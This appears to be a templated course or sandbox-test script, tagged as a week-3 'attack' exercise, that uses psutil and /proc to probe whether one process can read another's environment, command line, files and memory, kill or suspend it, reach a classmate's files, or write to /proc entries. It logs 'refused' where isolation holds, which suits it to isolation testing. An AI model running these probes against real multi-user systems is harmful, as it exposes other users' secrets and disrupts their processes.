"""Asks psutil, for which some of /proc is opened, about everybody else."""
# attack: week=03 exercise=pyramid
import os
import re

import psutil

for number in (@PID@, os.getppid()):
    for name in ("environ", "cmdline", "open_files", "memory_maps", "cwd", "suspend", "kill"):
        try:
            print(number, name, re.findall("@CANARY_START@[0-9a-f]+", str(getattr(psutil.Process(number), name)())))
        except (psutil.Error, OSError) as error:
            print("refused", type(error).__name__)
try:
    print(len(psutil.pids()), psutil.net_connections(), psutil.users())
except Exception as error:
    print("refused", error)
for root in (f"/proc/{os.getpid()}/root", f"/proc/{os.getpid()}/cwd", f"/proc/{os.getpid()}/task/{os.getpid()}/root"):
    try:
        print(open(root + "@CLASSMATE@").read())
    except OSError as error:
        print("refused", error)
for name in ("oom_score_adj", "mem", "comm", "coredump_filter"):
    try:
        open(f"/proc/{os.getpid()}/{name}", "r+").write("0")
        print("wrote", name)
    except OSError as error:
        print("refused", error)
for descriptor in range(10):
    try:
        print(descriptor, os.readlink(f"/proc/{os.getpid()}/fd/{descriptor}"))
    except OSError:
        pass
